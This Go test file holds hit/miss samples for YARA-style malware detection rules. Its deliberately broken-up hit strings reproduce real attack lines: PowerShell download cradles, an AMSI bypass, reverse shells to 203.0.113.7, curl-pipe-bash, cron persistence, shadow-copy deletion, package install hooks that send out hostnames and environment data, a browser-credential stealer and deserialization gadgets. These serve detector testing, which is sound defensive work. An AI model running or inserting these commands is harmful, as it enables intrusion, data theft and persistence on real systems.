package yara_test

import (
	"strings"
)

func scriptSamples() []ruleSample {
	code := strings.Repeat("aQBlAHgA", 12)
	return []ruleSample{
		{
			rule: "PowerShell_Encoded_And_Hidden",
			hit:  cut("powersh~ell.exe -nop -w hid~den -en~c " + code),
			miss: cut("powersh~ell.exe -NoProfile -File build.ps1 -EncodingName utf8 -Encoded " + code[:16]),
		},
		{
			rule: "PowerShell_Download_Cradle",
			hit:  cut("powersh~ell -w hid~den -c \"IE~X (New-Object Net.WebClient).Download~String('http://203.0.113.7/a.ps1')\""),
			miss: cut("To install: ie~x ((New-Object System.Net.WebClient).Download~String('https://example.org/install.ps1'))"),
		},
		{
			rule: "PowerShell_AMSI_Bypass",
			hit:  cut("[Ref].Assembly.GetType('System.Management.Auto~mation.Am~siUtils').GetField('am~siInitFai~led','NonPublic,Static').Set~Value($null,$true)"),
			miss: cut("The class Am~siUtils belongs to System.Management.Automation."),
		},
		{
			rule: "PowerShell_Loads_Assembly_From_Text",
			hit:  cut("[System.Reflection.Assem~bly]::Lo~ad([Convert]::FromBase64~String('TVq~QAAMAAAAEAAAA'))"),
			miss: cut("[System.Reflection.Assem~bly]::Lo~ad('System.Web')"),
		},
		{
			rule: "PowerShell_Injects_Code",
			hit: cut("[Byte[]] $c = 0x90; $a = $k::Virtual~Alloc(0, $c.Length, 0x3000, 0x40); " +
				"[System.Runtime.InteropServices.Marsh~al]::Co~py($c, 0, $a, $c.Length); $k::Create~Thread(0, 0, $a, 0, 0, 0)"),
			miss: cut("[Byte[]] $c = Get-Content x; [System.Runtime.InteropServices.Marsh~al]::Co~py($c, 0, $p, 4)"),
		},
		{
			rule: "PowerShell_Reverse_Shell",
			hit: cut("$c = New-Object System.Net.Sock~ets.TCPCl~ient('203.0.113.7',4444); $s = $c.GetStr~eam(); while(($i = $s.Re~ad($b, 0, $b.Length)) -ne 0) " +
				"{ $r = (ie~x $d 2>&1 | Out-String); $p = 'P~S ' + (pw~d).Path }"),
			miss: cut("$c = New-Object System.Net.Sock~ets.TCPCl~ient('localhost',5432); $c.Connected; $c.Close()"),
		},
		{
			rule: "Command_Certutil_Download",
			hit:  cut("certu~til.exe -urlca~che -split -f http://203.0.113.7/a.exe a.exe"),
			miss: cut("certu~til.exe -hashfile setup.exe SHA256"),
		},
		{
			rule: "Command_Bitsadmin_Download",
			hit:  cut("bitsad~min /trans~fer job /download /priority high http://203.0.113.7/a.exe c:\\a.exe"),
			miss: cut("bitsad~min /list /allusers"),
		},
		{
			rule: "Command_Mshta_Remote",
			hit:  cut("msh~ta http://203.0.113.7/a.hta"),
			miss: cut("The program msh~ta.exe runs HTML applications."),
		},
		{
			rule: "Command_Regsvr32_Remote",
			hit:  cut("regsv~r32 /s /n /u /i:http://203.0.113.7/a.sct scro~bj.dll"),
			miss: cut("regsv~r32 /s C:\\Program Files\\Example\\example.dll"),
		},
		{
			rule: "Command_Rundll32_Script",
			hit:  cut(`rundl~l32.exe javasc~ript:"\..\mshtml,RunHTMLApplication "`),
			miss: cut(`rundl~l32.exe shell32.dll,Control_RunDLL`),
		},
		{
			rule: "Command_Msiexec_Remote_Quiet",
			hit:  cut("msie~xec /q /i http://203.0.113.7/a.msi"),
			miss: cut("msie~xec /q /i example.msi"),
		},
		{
			rule: "WSH_Dropper",
			hit: cut(`Set h = CreateObject("MSXML2.XMLH~TTP"): h.Open "GET", u, False: h.Send` + "\n" +
				`Set s = CreateObject("ADODB.Str~eam"): s.Write h.ResponseBody: s.SaveTo~File p, 2` + "\n" + `CreateObject("WScript.Sh~ell").Ru~n p`),
			miss: cut(`Set h = CreateObject("MSXML2.XMLH~TTP"): h.Open "GET", u, False: h.Send: WScript.Echo h.ResponseText`),
		},
		{
			rule: "WSH_Reversed_Names",
			hit:  cut(`x = StrReverse("lle~hS.tpircSW"): y = StrReverse("mae~rtS.BDODA")`),
			miss: cut(`x = StrReverse("olleH")`),
		},
		{
			rule: "VBScript_Spelled_Code",
			hit:  cut("Exec~ute(" + strings.Repeat("Chr(77)&", 12) + "Chr(10))"),
			miss: cut("Response.Write(" + strings.Repeat("Chr(77)&", 12) + "Chr(10))"),
		},
		{
			rule: "Script_Tampers_With_Defender",
			hit:  cut("powershell -windowstyle hid~den Set-MpPre~ference -DisableRealtime~Monitoring $true"),
			miss: cut("Set-MpPre~ference -DisableRealtime~Monitoring $true # speeds the build up"),
		},
		{
			rule: "Script_Run_Key_Persistence",
			hit:  cut(`reg add HKCU\Software\Microsoft\Windows\CurrentVer~sion\Run /v a /d "msh~ta http://203.0.113.7/a" /f`),
			miss: cut(`reg add HKCU\Software\Microsoft\Windows\CurrentVer~sion\Run /v a /d "C:\Program Files\Example\example.exe" /f`),
		},
		{
			rule: "Script_Deletes_Shadow_Copies",
			hit:  cut("vssad~min delete sha~dows /all /quiet & wm~ic shadow~copy delete"),
			miss: cut("vssad~min list sha~dows"),
		},
		{
			rule: "Shell_Reverse_Shell",
			hit:  cut("ba~sh -i >& /dev/t~cp/203.0.113.7/4444 0>&1"),
			miss: cut("exec 3<>/dev/t~cp/127.0.0.1/5432 && echo up"),
		},
		{
			rule: "Script_Reverse_Shell",
			hit:  cut(`import socket,os,pty;s=socket.socket();s.con~nect(("203.0.113.7",4444));os.du~p2(s.fileno(),0);os.du~p2(s.fileno(),1);pty.spa~wn("/bin/sh")`),
			miss: cut(`import socket,os;s=socket.socket();s.con~nect(("127.0.0.1",5432));os.du~p2(log.fileno(),1)`),
		},
		{
			rule: "Shell_Pipe_From_Bare_Address",
			hit:  cut("cu~rl -fsSL http://203.0.113.7/i.sh | ba~sh"),
			miss: cut("cu~rl -fsSL http://192.168.1.10/i.sh | ba~sh; cu~rl -fsSL https://example.org/install.sh | sh"),
		},
		{
			rule: "Shell_Drops_Into_Tmp",
			hit:  cut("cd /t~mp || cd /var/r~un || cd /mnt; wg~et http://203.0.113.7/x; chm~od 777 x; ./x"),
			miss: cut("cd /t~mp && wget https://example.org/x.tar.gz && tar xf x.tar.gz"),
		},
		{
			rule: "Shell_Cron_Fetches_Code",
			hit:  cut(`(cron~tab -l 2>/dev/null; echo "* * * * * cu~rl -s https://example.net/x | ba~sh") | cron~tab -`),
			miss: cut(`(cron~tab -l 2>/dev/null; echo "0 4 * * * /usr/local/bin/backup") | cron~tab -`),
		},
		{
			rule: "Shell_Kills_Rival_Miners",
			hit:  cut("pki~ll -f xmr~ig\npki~ll -f kinsi~ng\nrm -f /t~mp/kdevtmp~fsi\n"),
			miss: cut("pki~ll -f xmr~ig # the miner that we found"),
		},
		{
			rule: "Shell_Miner_Setup",
			hit:  cut(`{"algo": "rx~/0", "donate-le~vel": 1, "pools": [{"url": "stratum+t~cp://pool.example.net:3333"}]}`),
			miss: cut(`The protocol is written stratum+t~cp://host:port in the settings.`),
		},
		{
			rule: "Shell_IRC_Bot",
			hit:  cut("#!/usr/bin/pe~rl\nprint $s \"NICK bot\\r\\nJOIN #x\\r\\n\"; if ($l =~~ /PRIV~MSG.*@udpfl~ood/) {} elsif (/@ports~can/) {}"),
			miss: cut("#!/usr/bin/pe~rl\n# an IRC client\nprint $s \"NICK me\\r\\nJOIN #perl\\r\\nPRIV~MSG #perl :hello\\r\\n\";"),
		},
		{
			rule: "MacOS_Password_Prompt",
			hit:  cut(`osascript -e 'display dia~log "System Preferences needs your password" default answer "" with hidden ans~wer'; dscl . authon~ly "$USER" "$p"`),
			miss: cut(`osascript -e 'display dia~log "Restart now?" buttons {"Later", "Restart"}'`),
		},
	}
}

func packageSamples() []ruleSample {
	return []ruleSample{
		{
			rule: "NPM_Hook_Fetches_Code",
			hit:  cut(`{"name": "x", "scripts": {"postin~stall": "cu~rl -s https://example.net/a | ba~sh"}}`),
			miss: cut(`{"name": "x", "scripts": {"postin~stall": "node scripts/build.js", "fetch": "curl -s https://example.org/data.json"}}`),
		},
		{
			rule: "NPM_Hook_Runs_Packed_Code",
			hit:  cut(`{"scripts": {"prein~stall": "node -e \"ev~al(Buffer.fr~om('Y29uc29sZQ==','base64').toString())\""}}`),
			miss: cut(`{"scripts": {"postin~stall": "node -e \"try{require('./postinstall')}catch(e){}\""}}`),
		},
		{
			rule: "NPM_Hook_Sends_Names",
			hit:  cut(`{"scripts": {"prein~stall": "cu~rl https://abc.oas~t.fun/?h=$(host~name)"}}`),
			miss: cut(`{"scripts": {"prein~stall": "npx only-allow pnpm"}}`),
		},
		{
			rule: "Node_Sends_Environment",
			hit:  cut(`const d = JSON.string~ify(process.e~nv); const r = https.requ~est({hostn~ame: "203.0.113.7", path: "/" + os.hostn~ame()}); r.end(d);`),
			miss: cut(`console.log(JSON.string~ify(process.e~nv)); fetch("https://example.org/items").then(show);`),
		},
		{
			rule: "NPM_Worm_Or_Swapper",
			hit:  cut(`function checkethe~reumw() {} function stealth~ProxyControl() {}`),
			miss: cut(`function checkEthereum() {} // trufflehog finds secrets; npm publish`),
		},
		{
			rule: "Python_Runs_Packed_Code",
			hit:  cut(`import base64; ex~ec(base64.b64de~code("` + strings.Repeat("cHJp", 20) + `"))`),
			miss: cut(`import base64; data = base64.b64de~code("` + strings.Repeat("cHJp", 20) + `")`),
		},
		{
			rule: "Python_Setup_Runs_Hidden_Code",
			hit: cut("from setuptools import setup\nfrom setuptools.command.install import install\nclass X(inst~all):\n def run(self):\n  requests.po~st('https://example.net', data=socket.getho~stname())\n" +
				"setup(name='x', cmdcl~ass={'install': X})"),
			miss: cut("from setuptools import setup\nclass X(inst~all):\n def run(self):\n  subprocess.check_call(['make'])\nsetup(name='x', cmdcl~ass={'install': X})"),
		},
		{
			rule: "Ruby_Gem_Build_Fetches_Code",
			hit:  cut("require 'mkm~f'\nsys~tem('cu~rl https://example.net/a | ba~sh')\ncreate_makefile('x')"),
			miss: cut("require 'mkm~f'\nhave_library('z')\ncreate_makefile('x')"),
		},
		{
			rule: "Stealer_Of_Browser_Secrets",
			hit: cut(`p = u + "\\Login Da~ta"; k = json.load(open(u + "\\Local Sta~te"))["os_cr~ypt"]["encrypted_~key"]; win32crypt.CryptUnprotect~Data(k)` + "\n" +
				`requests.post("https://discord.com/api/webho~oks/1/x", files=f)`),
			miss: cut(`A profile has the files "\Login Data" and "\Local State", with os_crypt and encrypted_key in it.`),
		},
		{
			rule: "Pickle_Runs_Code",
			hit:  cut("\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x05pos~ix\x94\x8c\x06sys~tem\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."),
			miss: cut("\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x0bcollections\x94\x8c\x0bOrderedDict\x94\x93\x94)R\x94."),
		},
		{
			rule: "Java_Object_Runs_Code",
			hit:  join(unhex("aced0005737200"), cut("org.apache.commons.coll~ections.functors.Invoker~Transformer xp java.lang.Run~time")),
			miss: join(unhex("aced0005737200"), cut("java.util.HashMap xp java.lang.Integer")),
		},
		{
			rule: "DotNet_Object_Runs_Code",
			hit:  cut(`{"$ty~pe": "System.Windows.Data.ObjectData~Provider, PresentationFramework", "Method~Name": "Start", "ObjectInstance": {"$type": "System.Diagnostics.Pro~cess, System"}}`),
			miss: cut(`{"$ty~pe": "System.Collections.Generic.List", "values": ["System.Diagnostics.Pro~cess"]}`),
		},
	}
}
